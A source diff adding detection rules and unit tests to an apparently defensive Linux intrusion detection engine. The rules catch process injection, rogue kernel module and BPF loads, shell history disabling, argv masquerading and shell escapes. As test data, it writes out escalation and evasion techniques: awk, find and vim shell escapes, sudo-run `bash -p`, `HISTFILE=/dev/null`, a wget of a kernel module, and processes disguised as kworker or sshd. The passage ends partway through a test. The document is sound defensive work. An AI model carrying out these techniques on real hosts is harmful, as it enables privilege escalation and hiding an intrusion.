@@ -50,14 +50,35 @@ pub mod ids {
 
     /// A file's times set to chosen values where they hide a change.
     pub const TIMESTOMP: &str = "timestomp";
-    /// Another process's memory opened for writing.
+    /// Shell history switched off (environment or command string).
+    pub const HISTORY_OFF: &str = "history_disabled";
+    /// Another process's memory or registers written (`/proc/PID/mem`,
+    /// ptrace pokes and register writes, `process_vm_writev`).
     pub const INJECTION: &str = "process_injection";
+    /// A process that is not a debugger attached to one it did not start.
+    pub const PTRACE_ATTACH: &str = "ptrace_attach";
+    /// A kernel module loaded from outside the system's module trees.
+    pub const MODULE_LOAD: &str = "kernel_module_load";
+    /// A program that instruments the kernel loaded into BPF by a
+    /// program that is not the system's.
+    pub const BPF_LOAD: &str = "bpf_program_load";
+    /// Anonymous memory made executable where no JIT explains it.
+    pub const EXEC_MEMORY: &str = "anonymous_exec_memory";
+    /// An interactive shell reading a pipe or a file, started through a
+    /// program's command escape.
+    pub const SHELL_ESCAPE: &str = "shell_escape";
 
     /// Every built-in rule.
     pub const ALL: &[&str] = &[
+        SHELL_ESCAPE,
         LOG_TAMPERING,
         TIMESTOMP,
+        HISTORY_OFF,
         INJECTION,
+        PTRACE_ATTACH,
+        MODULE_LOAD,
+        BPF_LOAD,
+        EXEC_MEMORY,
         SERVER_CHILD,
         INGRESS,
         MASQUERADE,
@@ -77,7 +98,7 @@ pub mod ids {
     ];
 }
 
-fn finding(
+pub(super) fn finding(
     rule: &str,
     severity: Severity,
     mitre: &[&str],
@@ -110,11 +131,16 @@ pub fn run_all(ctx: &mut Ctx<'_>) -> Vec<Finding> {
             ld_preload(x, &mut out);
             miner_exec(ctx, x, &mut out);
             pipe_to_shell(ctx, x, &mut out);
+            shell_escape(ctx, x, &mut out);
             decode_and_run(x, &mut out);
+            history_disabled(ctx, x, &mut out);
         }
         Payload::Connect(c) => {
+            if let Some(argv) = &c.rewritten_argv {
+                argv_rewritten(ctx, argv, &mut out);
+            }
             let exe = &ctx.ev.process.image.exe;
-            if is_shell(exe) && !c.daddr.is_unspecified() {
+            if is_shell(ctx.ev.process.image.identity()) && !c.daddr.is_unspecified() {
                 out.push(finding(
                     ids::SHELL_CONNECT,
                     Severity::High,
@@ -138,6 +164,11 @@ pub fn run_all(ctx: &mut Ctx<'_>) -> Vec<Finding> {
                 ));
             }
         }
+        Payload::Listen(l) => {
+            if let Some(argv) = &l.rewritten_argv {
+                argv_rewritten(ctx, argv, &mut out);
+            }
+        }
         Payload::ExecDenied(d) => exec_denied(ctx, d, &mut out),
         Payload::Utimes(u) => timestomp(ctx, &u.path, &mut out),
         Payload::Comm(c) => renamed(ctx, c, &mut out),
@@ -146,7 +177,15 @@ pub fn run_all(ctx: &mut Ctx<'_>) -> Vec<Finding> {
             log_tampering(ctx, f, &mut out);
             proc_mem_write(ctx, &f.path, &mut out);
         }
-        Payload::Rename(r) => persistence(&r.new_path, "renamed a file into", ctx, &mut out),
+        Payload::Rename(r) => {
+            persistence(&r.new_path, "renamed a file into", ctx, &mut out);
+            log_replaced(ctx, &r.new_path, "rewrote", &mut out);
+        }
+        Payload::Unlink(u) => log_replaced(ctx, &u.path, "deleted", &mut out),
+        Payload::ProcessAccess(a) => super::inject::process_access(ctx, a, &mut out),
+        Payload::ModuleLoad(m) => super::inject::module_load(ctx, m, &mut out),
+        Payload::BpfLoad(b) => super::inject::bpf_load(ctx, b, &mut out),
+        Payload::ExecMem(x) => super::inject::exec_memory(ctx, x, &mut out),
         Payload::Chmod(c) => {
             persistence(&c.path, "changed the mode of", ctx, &mut out);
             if c.mode & 0o6000 != 0 && !in_system_dir(&c.path) {
@@ -221,7 +260,7 @@ fn serving_ancestor(ctx: &Ctx<'_>, ppid: u32) -> Option<(u32, String)> {
         if p.serves {
             return Some((p.pid, p.image.exe.clone()));
         }
-        if !is_shell(&p.image.exe) {
+        if !is_shell(p.image.identity()) {
             return None;
         }
         cur = p.ppid;
@@ -230,20 +269,20 @@ fn serving_ancestor(ctx: &Ctx<'_>, ppid: u32) -> Option<(u32, String)> {
 }
 
 fn server_child(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
-    let what = if is_shell(&x.exe) {
+    let what = if is_shell(x.identity()) {
         "a shell"
-    } else if is_downloader(&x.exe) {
+    } else if is_downloader(x.identity()) {
         "a downloader"
-    } else if is_interpreter_one_liner(&x.exe, &x.argv) {
+    } else if is_interpreter_one_liner(x.identity(), &x.argv) {
         "an interpreter one-liner"
-    } else if is_recon(&x.exe) {
+    } else if is_recon(x.identity()) {
         "a reconnaissance tool"
     } else {
         return;
     };
     // A shell must be a direct child of the server; tools may sit under the
     // server's shells.
-    let server = if is_shell(&x.exe) {
+    let server = if is_shell(x.identity()) {
         ctx.tree
             .get(ctx.ev.process.ppid)
             .filter(|p| p.serves)
@@ -252,7 +291,7 @@ fn server_child(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
         serving_ancestor(ctx, ctx.ev.process.ppid)
     };
     let Some((spid, sexe)) = server else { return };
-    let mitre: &[&str] = if is_shell(&x.exe) {
+    let mitre: &[&str] = if is_shell(x.identity()) {
         &["T1059.004", "T1190"]
     } else {
         &["T1059", "T1190"]
@@ -311,7 +350,7 @@ fn ingress_exec(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
     let operand = x
         .script
         .clone()
-        .or_else(|| script_operand(&x.exe, &x.argv).map(|s| absolute(ctx.ev.event.pid, s)));
+        .or_else(|| script_operand(x.identity(), &x.argv).map(|s| absolute(ctx.ev.event.pid, s)));
     let Some(script) = operand else { return };
     if let Some(p) = ctx.state.files.at_path(&script) {
         if !p.reported {
@@ -320,7 +359,7 @@ fn ingress_exec(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
             let mut f =
                 provenance_finding(&p, format!("{} runs the script {script}", x.exe), &script);
             f.mitre.push(
-                if is_shell(&x.exe) {
+                if is_shell(x.identity()) {
                     "T1059.004"
                 } else {
                     "T1059"
@@ -333,7 +372,7 @@ fn ingress_exec(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
 }
 
 /// `path` made absolute against `pid`'s working directory (as it is now).
-fn absolute(pid: u32, path: &str) -> String {
+pub(super) fn absolute(pid: u32, path: &str) -> String {
     if path.starts_with('/') {
         return path.to_string();
     }
@@ -433,6 +472,17 @@ fn masquerade(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
             never_suppress,
             "",
         ));
+    } else if let Some(orig) = x.copy_of.as_deref().filter(|o| basename(o) != exe_name) {
+        // A system utility copied and renamed: the name hides what it is
+        // (a shell called "worker", curl in a memfd).
+        out.push(finding(
+            ids::MASQUERADE,
+            Severity::High,
+            &["T1036.003"],
+            format!("{} is a renamed copy of {orig}", x.exe),
+            false,
+            "",
+        ));
     }
 }
 
@@ -454,7 +504,7 @@ fn exec_location(x: &Exec, out: &mut Vec<Finding>) {
         // server's shell in a scenario's expectations); a script run from
         // there is a script interpreter at work (T1059, .004 for a shell).
         let mitre: &[&str] = match &x.script {
-            Some(_) if is_shell(&x.exe) => &["T1059.004"],
+            Some(_) if is_shell(x.identity()) => &["T1059.004"],
             Some(_) => &["T1059"],
             None => &[],
         };
@@ -495,8 +545,8 @@ fn fileless(x: &Exec, out: &mut Vec<Finding>) {
 }
 
 fn reverse_shell(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
-    let shell_like =
-        is_shell(&x.exe) || (is_interpreter(&x.exe) && x.argv.iter().skip(1).any(|a| a == "-i"));
+    let shell_like = is_shell(x.identity())
+        || (is_interpreter(x.identity()) && x.argv.iter().skip(1).any(|a| a == "-i"));
     if !shell_like {
         return;
     }
@@ -516,7 +566,7 @@ fn reverse_shell(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
         return;
     }
     // An interpreter that just connected out hands an interactive shell a pty.
-    let interactive = shell_command(&x.exe, &x.argv).is_none() && x.script.is_none();
+    let interactive = shell_command(x.identity(), &x.argv).is_none() && x.script.is_none();
     if interactive && x.stdio[0] == Stdio::CharDevice {
         if let Some(parent) = ctx.tree.get(ctx.ev.process.ppid) {
             if is_interpreter(&parent.image.exe)
@@ -558,6 +608,26 @@ fn persistence(path: &str, verb: &str, ctx: &Ctx<'_>, out: &mut Vec<Finding>) {
 /// a program that does not keep logs (a rotator, a log daemon, a package
 /// manager). History files are judged only by erasers: shells rewrite
 /// their own history when they exit.
+/// A log or shell history deleted, or replaced by a rename (`sed -i`
+/// edits in place that way), by a program that does not keep logs.
+fn log_replaced(ctx: &Ctx<'_>, path: &str, how: &str, out: &mut Vec<Finding>) {
+    let Some((tech, what)) = log_kind(path) else {
+        return;
+    };
+    let exe = &ctx.ev.process.image.exe;
+    if is_log_keeper(exe) {
+        return;
+    }
+    out.push(finding(
+        ids::LOG_TAMPERING,
+        Severity::High,
+        &[tech, "T1070"],
+        format!("{exe} {how} {what} {path}"),
+        false,
+        path,
+    ));
+}
+
 fn log_tampering(ctx: &Ctx<'_>, f: &crate::model::event::FileOpen, out: &mut Vec<Finding>) {
     const O_TRUNC: u32 = 0o1000;
     let Some((tech, what)) = log_kind(&f.path) else {
@@ -624,6 +694,40 @@ fn timestomp(ctx: &mut Ctx<'_>, path: &str, out: &mut Vec<Finding>) {
 /// system daemon's name (`prctl(PR_SET_NAME)`), or whose rewritten command
 /// line now looks like a kernel thread: what `ps` and `top` show is a
 /// disguise. A program taking its own name (cut to 15 bytes) is not.
+/// A process that wrote over its command line after exec, without renaming
+/// itself (seen at its first connect or listen), to pass for a kernel
+/// thread or a system daemon it is not (`[kworker/0:1]`, `sshd: root`).
+/// Servers naming their own processes (`nginx: worker process`,
+/// `postgres: checkpointer`) keep their program's name and pass.
+fn argv_rewritten(ctx: &Ctx<'_>, argv: &[String], out: &mut Vec<Finding>) {
+    let exe = &ctx.ev.process.image.exe;
+    let exe_name = basename(exe);
+    let shown = argv.first().map(|a| a.trim()).unwrap_or("");
+    if !looks_like_kernel_thread(shown) {
+        // "sshd: root@pts/0": the name is the first word.
+        let name = basename(shown.split([' ', ':']).next().unwrap_or(""));
+        if name.is_empty()
+            || exe_name.starts_with(name)
+            || name.starts_with(exe_name)
+            || !is_daemon_name(name)
+        {
+            return;
+        }
+    }
+    out.push(finding(
+        ids::MASQUERADE,
+        Severity::High,
+        &["T1036.005"],
+        format!(
+            "{exe} rewrote its command line to \"{}\" (started as \"{}\")",
+            argv.join(" "),
+            ctx.ev.process.image.argv.join(" ")
+        ),
+        true,
+        "",
+    ));
+}
+
 fn renamed(ctx: &Ctx<'_>, c: &crate::model::event::CommChange, out: &mut Vec<Finding>) {
     let exe = &ctx.ev.process.image.exe;
     let exe_name = basename(exe);
@@ -668,7 +772,10 @@ fn proc_mem_write(ctx: &Ctx<'_>, path: &str, out: &mut Vec<Finding>) {
     };
     let e = &ctx.ev.event;
     let exe = &ctx.ev.process.image.exe;
-    if target == e.pid || matches!(basename(exe), "gdb" | "lldb" | "rr" | "criu") {
+    if target == e.pid
+        || is_system_debugger(exe)
+        || super::inject::is_descendant(ctx.tree, target, e.pid)
+    {
         return;
     }
     let victim = ctx
@@ -745,7 +852,7 @@ fn shell_reading_input(exe: &str, argv: &[String]) -> bool {
 fn pipe_to_shell(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
     // The whole pipeline in one `sh -c` string: judged before any of its
     // processes run (the freeze can stop the shell there).
-    if let Some(cmd) = shell_command(&x.exe, &x.argv) {
+    if let Some(cmd) = shell_command(x.identity(), &x.argv) {
         if let Some(kind) = pipes_into_shell(&cmd) {
             let kind = if kind == "decode" {
                 Origin::Decoded
@@ -761,16 +868,20 @@ fn pipe_to_shell(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
     let e = &ctx.ev.event;
     for j in ctx.state.joins.clone() {
         let reader = if j.reader_pid == e.pid {
-            Some((x.exe.clone(), x.argv.clone()))
+            Some((x.exe.clone(), x.identity().to_string(), x.argv.clone()))
         } else {
-            ctx.tree
-                .get(j.reader_pid)
-                .map(|p| (p.image.exe.clone(), p.image.argv.clone()))
+            ctx.tree.get(j.reader_pid).map(|p| {
+                (
+                    p.image.exe.clone(),
+                    p.image.identity().to_string(),
+                    p.image.argv.clone(),
+                )
+            })
         };
-        let Some((rexe, rargv)) = reader else {
+        let Some((rexe, ridentity, rargv)) = reader else {
             continue;
         };
-        if shell_reading_input(&rexe, &rargv) {
+        if shell_reading_input(&ridentity, &rargv) {
             out.push(pipe_finding(
                 j.taint.origin,
                 format!(
@@ -783,7 +894,7 @@ fn pipe_to_shell(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
     }
     // A wrapper read the pipe and started the shell (`| sudo bash`, where
     // sudo may hand the shell a terminal of its own instead of the pipe).
-    if shell_reading_input(&x.exe, &x.argv) {
+    if shell_reading_input(x.identity(), &x.argv) {
         let parent = ctx.tree.get(ctx.ev.process.ppid);
         if let Some(p) = parent.filter(|p| is_wrapper(&p.image.exe)) {
             if let Some(t) = ctx.state.files.taint(p.pid).cloned() {
@@ -799,10 +910,114 @@ fn pipe_to_shell(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
     }
 }
 
+/// A shell started through another program's command escape (`awk
+/// 'BEGIN{system("/bin/sh")}'`, `find . -exec /bin/sh \;`, `vim -c ':!sh'`,
+/// an interpreter's `os.system("sh")`): an interactive shell (no command, no
+/// script) whose input is a pipe, a file or a Unix socket (so not a
+/// person's terminal: commands fed in by something else), whose nearest
+/// ancestor, looking through wrappers (`env`, `sudo`, `timeout`, ...) and a
+/// `sh -c` that only starts the shell, is a program with a command escape.
+/// A network socket as input is a reverse shell, reported as such.
+fn shell_escape(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
+    if !shell_reading_input(x.identity(), &x.argv) {
+        return;
+    }
+    let input = match x.stdio[0] {
+        Stdio::Pipe => "a pipe",
+        Stdio::File => "a file",
+        Stdio::UnixSocket | Stdio::OtherSocket => "a local socket",
+        _ => return,
+    };
+    let mut pid = ctx.ev.process.ppid;
+    let mut via = Vec::new();
+    for _ in 0..8 {
+        let Some(p) = ctx.tree.get(pid) else {
+            return;
+        };
+        let id = p.image.identity();
+        let passes = is_wrapper(id)
+            || (is_shell(id)
+                && shell_command(id, &p.image.argv).is_some_and(|c| only_starts_a_shell(&c)));
+        if passes {
+            via.push(basename(&p.image.exe).to_string());
+            pid = p.ppid;
+            continue;
+        }
+        if !has_command_escape(id) {
+            return;
+        }
+        let through = if via.is_empty() {
+            String::new()
+        } else {
+            format!(" (through {})", via.join(", "))
+        };
+        // `sudo vim` then `:!sh`: a shell with sudo's rights.
+        let mut mitre = vec!["T1059.004", "T1202"];
+        if ctx
+            .tree
+            .get(p.ppid)
+            .is_some_and(|g| matches!(basename(g.image.identity()), "sudo" | "doas"))
+        {
+            mitre.push("T1548.003");
+        }
+        out.push(finding(
+            ids::SHELL_ESCAPE,
+            Severity::High,
+            &mitre,
+            format!(
+                "{} (pid {}) started the shell {}{through} through a command escape; the shell reads {input}",
+                p.image.exe, p.pid, x.exe
+            ),
+            false,
+            "",
+        ));
+        return;
+    }
+}
+
+/// Shell history switched off, so that what follows leaves no trace in
+/// `~/.bash_history` (T1562.003): a shell command string that does it, or
+/// an environment that carries it (`export HISTFILE=/dev/null` in an
+/// interactive session shows in every later child's environment). Once per
+/// session: the parent of the first process seen is remembered, and what
+/// descends from it is not reported again.
+fn history_disabled(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
+    let statement = shell_command(x.identity(), &x.argv).and_then(|c| disables_history(&c));
+    if statement.is_none() && !x.history_off {
+        return;
+    }
+    let seen = &mut ctx.state.history_off;
+    if ctx.ev.ancestry.iter().any(|a| seen.contains(&a.pid)) {
+        return;
+    }
+    // A command string marks its own process; an inherited environment
+    // marks the session it came from (the parent that exported it).
+    let session = if statement.is_some() {
+        ctx.ev.event.pid
+    } else {
+        ctx.ev.process.ppid
+    };
+    seen.put(session, ());
+    let how = match statement {
+        Some(s) => format!("runs \"{s}\""),
+        None => "starts with history switched off in its environment".into(),
+    };
+    // High: hiding the session's commands is what an intruder does before
+    // working, and it asks for evidence of the session's shell.
+    out.push(finding(
+        ids::HISTORY_OFF,
+        Severity::High,
+        &["T1562.003"],
+        format!("{} {how}", x.exe),
+        false,
+        "",
+    ));
+}
+
 /// An interpreter one-liner that decodes data and runs it as code or a
 /// command, leaving no file behind.
 fn decode_and_run(x: &Exec, out: &mut Vec<Finding>) {
-    if decodes_and_runs(&x.exe, &x.argv) {
+    if decodes_and_runs(x.identity(), &x.argv) {
         out.push(finding(
             ids::DECODE_AND_RUN,
             Severity::High,
@@ -914,6 +1129,8 @@ mod tests {
                 exe_deleted: false,
                 script: None,
                 ld_preload: None,
+                copy_of: None,
+                history_off: false,
                 stdio: [Stdio::CharDevice; 3],
                 frozen: false,
                 ..Default::default()
@@ -934,6 +1151,7 @@ mod tests {
                     protocol: "tcp".into(),
                     addr: "127.0.0.1".parse().unwrap(),
                     port: 3000,
+                    rewritten_argv: None,
                 }),
             );
             self.run(ev);
@@ -1066,6 +1284,8 @@ mod tests {
                 saddr: "10.0.0.2".parse().unwrap(),
                 sport: 5555,
                 ret: Some(0),
+                send_to: false,
+                rewritten_argv: None,
             }),
         );
         w.run(ev);
@@ -1347,6 +1567,8 @@ mod tests {
                 saddr: "10.0.0.2".parse().unwrap(),
                 sport: 40000,
                 ret: Some(0),
+                send_to: false,
+                rewritten_argv: None,
             }),
         );
         w.run(ev);
@@ -1526,6 +1748,122 @@ mod tests {
         let f = w.exec_full(928, 920, "/usr/bin/dash", &["sh", "build.sh"], |x| {
             piped(x, 0, 8005)
         });
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
+    fn a_command_line_rewritten_to_pass_for_another_is_found_at_its_connect() {
+        let mut w = World::new();
+        let connect = |w: &mut World, pid: u32, shown: &[&str]| {
+            let ev = w.event(
+                pid,
+                Payload::Connect(Connect {
+                    protocol: "tcp".into(),
+                    daddr: "198.51.100.7".parse().unwrap(),
+                    dport: 443,
+                    saddr: "10.0.0.2".parse().unwrap(),
+                    sport: 40000,
+                    ret: Some(0),
+                    send_to: false,
+                    rewritten_argv: Some(shown.iter().map(|s| s.to_string()).collect()),
+                }),
+            );
+            w.run(ev)
+        };
+        w.exec(1100, 1, "/srv/app/.cache/agent", &["./agent", "-q"]);
+        let f = connect(&mut w, 1100, &["[kworker/0:2]"]);
+        assert_eq!(rules(&f), [ids::MASQUERADE], "{f:?}");
+        assert!(f[0].summary.contains("started as \"./agent -q\""), "{f:?}");
+        w.exec(1101, 1, "/usr/bin/python3.11", &["python3", "beacon.py"]);
+        let f = connect(&mut w, 1101, &["sshd: root@notty"]);
+        assert_eq!(rules(&f), [ids::MASQUERADE], "{f:?}");
+        // Near misses: servers naming their own processes.
+        w.exec(1110, 1, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]);
+        assert!(connect(&mut w, 1110, &["nginx: worker process"]).is_empty());
+        w.exec(1111, 1, "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"]);
+        assert!(connect(&mut w, 1111, &["sshd: root@pts/0"]).is_empty());
+        w.exec(1112, 1, "/usr/bin/python3", &["gunicorn", "app:app"]);
+        assert!(connect(&mut w, 1112, &["gunicorn: worker [app]"]).is_empty());
+    }
+
+    #[test]
+    fn a_shell_started_through_a_command_escape_is_found() {
+        let pipe = |x: &mut Exec| x.stdio[0] = Stdio::Pipe;
+        let mut w = World::new();
+        w.exec(1000, 1, "/usr/bin/bash", &["bash"]);
+        // awk's system("/bin/sh"): through `sh -c /bin/sh` (no exec
+        // optimization), or directly (the intermediate exec'ed itself).
+        w.exec_full(
+            1001,
+            1000,
+            "/usr/bin/gawk",
+            &["awk", "BEGIN {system(\"/bin/sh\")}"],
+            pipe,
+        );
+        w.exec_full(1002, 1001, "/usr/bin/dash", &["sh", "-c", "/bin/sh"], pipe);
+        let f = w.exec_full(1003, 1002, "/usr/bin/dash", &["/bin/sh"], pipe);
+        assert_eq!(rules(&f), [ids::SHELL_ESCAPE], "{f:?}");
+        assert!(f[0].summary.contains("through dash"), "{}", f[0].summary);
+        let f = w.exec_full(1004, 1001, "/usr/bin/dash", &["/bin/sh"], pipe);
+        assert_eq!(rules(&f), [ids::SHELL_ESCAPE], "{f:?}");
+        // find -exec, under sudo: T1548.003 too; input from a file.
+        w.exec(1010, 1000, "/usr/bin/sudo", &["sudo", "find", "."]);
+        w.exec_full(
+            1011,
+            1010,
+            "/usr/bin/find",
+            &["find", ".", "-exec", "/bin/bash", "-p", ";"],
+            |x| x.stdio[0] = Stdio::File,
+        );
+        let f = w.exec_full(1012, 1011, "/usr/bin/bash", &["/bin/bash", "-p"], |x| {
+            x.stdio[0] = Stdio::File
+        });
+        assert_eq!(rules(&f), [ids::SHELL_ESCAPE], "{f:?}");
+        assert!(f[0].mitre.contains(&"T1548.003".to_string()), "{f:?}");
+        // An interpreter's os.system("sh") through env.
+        w.exec_full(
+            1020,
+            1000,
+            "/usr/bin/python3.11",
+            &["python3", "app.py"],
+            pipe,
+        );
+        w.exec_full(1021, 1020, "/usr/bin/env", &["env", "sh"], pipe);
+        let f = w.exec_full(1022, 1021, "/usr/bin/dash", &["sh"], pipe);
+        assert_eq!(rules(&f), [ids::SHELL_ESCAPE], "{f:?}");
+
+        // Near misses. A shell fed by a pipe from a shell (`... | sh` typed
+        // in a session), or started by sshd (`ssh host < cmds`).
+        let f = w.exec_full(1030, 1000, "/usr/bin/dash", &["sh"], pipe);
+        assert!(f.is_empty(), "{f:?}");
+        w.exec(1040, 1, "/usr/sbin/sshd", &["sshd: u"]);
+        let f = w.exec_full(1041, 1040, "/usr/bin/bash", &["bash"], pipe);
+        assert!(f.is_empty(), "{f:?}");
+        // The escape on a terminal: a person's shell (`:!sh` in vim).
+        w.exec(1050, 1000, "/usr/bin/vim", &["vim", "notes"]);
+        w.exec(1051, 1050, "/usr/bin/dash", &["sh", "-c", "/bin/sh"]);
+        let f = w.exec(1052, 1051, "/usr/bin/dash", &["/bin/sh"]);
+        assert!(f.is_empty(), "{f:?}");
+        // awk and vim running commands, not shells reading input.
+        w.exec_full(1060, 1000, "/usr/bin/gawk", &["awk", "{print}"], pipe);
+        let f = w.exec_full(1061, 1060, "/usr/bin/dash", &["sh", "-c", "sort -u"], pipe);
+        assert!(f.is_empty(), "{f:?}");
+        let f = w.exec_full(1062, 1060, "/usr/bin/dash", &["sh", "x.sh"], pipe);
+        assert!(f.is_empty(), "{f:?}");
+        // A `sh -c` doing more than starting the shell is not looked through.
+        w.exec_full(1070, 1000, "/usr/bin/gawk", &["awk", "x"], pipe);
+        w.exec_full(
+            1071,
+            1070,
+            "/usr/bin/dash",
+            &["sh", "-c", "cd /x && make"],
+            pipe,
+        );
+        let f = w.exec_full(1072, 1071, "/usr/bin/dash", &["sh"], pipe);
+        assert!(f.is_empty(), "{f:?}");
+        // A program without a command escape (a CI runner feeding a script).
+        w.exec(1080, 1, "/usr/bin/gitlab-runner", &["gitlab-runner", "run"]);
+        let f = w.exec_full(1081, 1080, "/usr/bin/bash", &["bash", "--login"], pipe);
         assert!(f.is_empty(), "{f:?}");
     }
 
@@ -1791,5 +2129,328 @@ mod tests {
         for (exe, argv, want) in cases {
             assert_eq!(script_operand(exe, &v(argv)), *want, "{argv:?}");
         }
+    }
+
+    fn access(w: &mut World, pid: u32, op: &'static str, target: u32, ret: i64) -> Vec<Finding> {
+        let ev = w.event(
+            pid,
+            Payload::ProcessAccess(crate::model::event::ProcessAccess {
+                op,
+                target,
+                target_pid: Some(target),
+                ret,
+                addr: 0x7ffd_0000_0000,
+            }),
+        );
+        w.run(ev)
+    }
+
+    #[test]
+    fn ptrace_and_vm_writes_into_a_process_not_started_by_the_writer() {
+        let mut w = World::new();
+        w.exec(1400, 1, "/opt/shop/bin/api", &["api"]);
+        w.exec(1500, 1, "/usr/bin/python3.12", &["python3", "x.py"]);
+        for op in ["poke_text", "set_regs", "vm_writev"] {
+            let f = access(&mut w, 1500, op, 1400, 0);
+            assert_eq!(rules(&f), [ids::INJECTION], "{op}: {f:?}");
+            assert_eq!(f[0].severity, Severity::Critical);
+            assert!(f[0].summary.contains("/opt/shop/bin/api"), "{f:?}");
+        }
+        let f = access(&mut w, 1500, "seize", 1400, 0);
+        assert_eq!(rules(&f), [ids::PTRACE_ATTACH], "{f:?}");
+        assert!(f[0].mitre.contains(&"T1055.008".to_string()));
+        // Near misses: refused, a system debugger, a tracer of its own
+        // child (strace, a ptrace sandbox), itself.
+        assert!(access(&mut w, 1500, "attach", 1400, -1).is_empty());
+        w.exec(1501, 1, "/usr/bin/gdb", &["gdb", "-p", "1400"]);
+        assert!(access(&mut w, 1501, "attach", 1400, 0).is_empty());
+        assert!(access(&mut w, 1501, "poke_text", 1400, 0).is_empty());
+        w.exec(1502, 1, "/home/dev/bin/sandbox", &["sandbox", "--", "make"]);
+        w.exec(1503, 1502, "/usr/bin/make", &["make"]);
+        w.exec(1504, 1503, "/usr/bin/cc", &["cc"]);
+        assert!(access(&mut w, 1502, "seize", 1504, 0).is_empty());
+        assert!(access(&mut w, 1502, "set_regset", 1504, 0).is_empty());
+        // A debugger's name elsewhere is not a debugger.
+        w.exec(1505, 1, "/var/tmp/gdb", &["gdb"]);
+        let f = access(&mut w, 1505, "poke_data", 1400, 0);
+        assert_eq!(rules(&f), [ids::INJECTION], "{f:?}");
+    }
+
+    fn module(w: &mut World, pid: u32, path: &str, ret: i32) -> Vec<Finding> {
+        let ev = w.event(
+            pid,
+            Payload::ModuleLoad(crate::model::event::ModuleLoad {
+                path: path.into(),
+                from_memory: path.is_empty(),
+                flags: 0,
+                ret,
+            }),
+        );
+        w.run(ev)
+    }
+
+    #[test]
+    fn kernel_modules_from_outside_the_module_trees() {
+        let mut w = World::new();
+        w.exec(1600, 1, "/usr/sbin/insmod", &["insmod", "/srv/drv/net.ko"]);
+        let f = module(&mut w, 1600, "/srv/drv/net.ko", 0);
+        assert_eq!(rules(&f), [ids::MODULE_LOAD], "{f:?}");
+        assert_eq!(f[0].severity, Severity::High);
+        // From memory: the system loader told to load a file elsewhere
+        // (kmod decompresses .ko.xz itself), or any other program.
+        w.exec(1601, 1, "/usr/bin/kmod", &["insmod", "/home/u/m.ko.xz"]);
+        assert_eq!(rules(&module(&mut w, 1601, "", 0)), [ids::MODULE_LOAD]);
+        w.exec(1602, 1, "/srv/app/loader", &["loader"]);
+        let f = module(&mut w, 1602, "", -1);
+        assert_eq!(rules(&f), [ids::MODULE_LOAD], "{f:?}");
+        assert!(f[0].summary.contains("refused"), "{f:?}");
+        // A module file fetched over the network: critical.
+        w.exec(
+            1603,
+            1,
+            "/usr/bin/wget",
+            &["wget", "http://203.0.113.5/m.ko"],
+        );
+        open_with(&mut w, 1603, "/var/lib/m.ko", (8, 77), 0o1101);
+        w.exec(1604, 1, "/usr/sbin/insmod", &["insmod", "/var/lib/m.ko"]);
+        let f = module(&mut w, 1604, "/var/lib/m.ko", 0);
+        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
+        assert!(f[0].summary.contains("wget"), "{f:?}");
+        // Near misses: modprobe by name and udev loading from the trees.
+        w.exec(1605, 1, "/usr/bin/kmod", &["modprobe", "nf_tables"]);
+        assert!(module(&mut w, 1605, "", 0).is_empty());
+        w.exec(
+            1606,
+            1,
+            "/usr/lib/systemd/systemd-udevd",
+            &["systemd-udevd"],
+        );
+        let f = module(
+            &mut w,
+            1606,
+            "/usr/lib/modules/6.1.0-27-amd64/kernel/drivers/net/veth.ko",
+            0,
+        );
+        assert!(f.is_empty(), "{f:?}");
+        w.exec(
+            1607,
+            1,
+            "/usr/bin/kmod",
+            &["insmod", "/lib/modules/6.1/extra/x.ko"],
+        );
+        assert!(module(&mut w, 1607, "", 0).is_empty());
+    }
+
+    fn bpf(w: &mut World, pid: u32, prog_type: &str) -> Vec<Finding> {
+        let ev = w.event(
+            pid,
+            Payload::BpfLoad(crate::model::event::BpfLoad {
+                prog_type: prog_type.into(),
+                attach_type: 0,
+                name: "p".into(),
+                insn_cnt: 10,
+                ret: 4,
+            }),
+        );
+        w.run(ev)
+    }
+
+    #[test]
+    fn bpf_programs_that_hook_the_kernel_loaded_by_programs_not_the_systems() {
+        let mut w = World::new();
+        w.exec(1700, 1, "/home/ops/bin/probe", &["probe"]);
+        let f = bpf(&mut w, 1700, "kprobe");
+        assert_eq!(rules(&f), [ids::BPF_LOAD], "{f:?}");
+        assert_eq!(f[0].severity, Severity::High);
+        w.exec(1701, 1, "/dev/shm/k", &["k"]);
+        let f = bpf(&mut w, 1701, "tracing");
+        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
+        // Near misses: the system's tools, and network or cgroup filters.
+        w.exec(1702, 1, "/usr/bin/bpftrace", &["bpftrace", "-e", "..."]);
+        assert!(bpf(&mut w, 1702, "kprobe").is_empty());
+        assert!(bpf(&mut w, 1700, "socket_filter").is_empty());
+        assert!(bpf(&mut w, 1700, "cgroup_skb").is_empty());
+    }
+
+    fn exec_mem(w: &mut World, pid: u32, ret: i32) -> Vec<Finding> {
+        let ev = w.event(
+            pid,
+            Payload::ExecMem(crate::model::event::ExecMem {
+                op: "mmap",
+                prot: 7,
+                map_flags: 0x22,
+                addr: 0x7f00_0000_0000,
+                len: 4096,
+                ret,
+            }),
+        );
+        w.run(ev)
+    }
+
+    #[test]
+    fn executable_anonymous_memory_where_no_jit_explains_it() {
+        let mut w = World::new();
+        w.exec(1800, 1, "/usr/bin/python3.11", &["python3", "-c", "..."]);
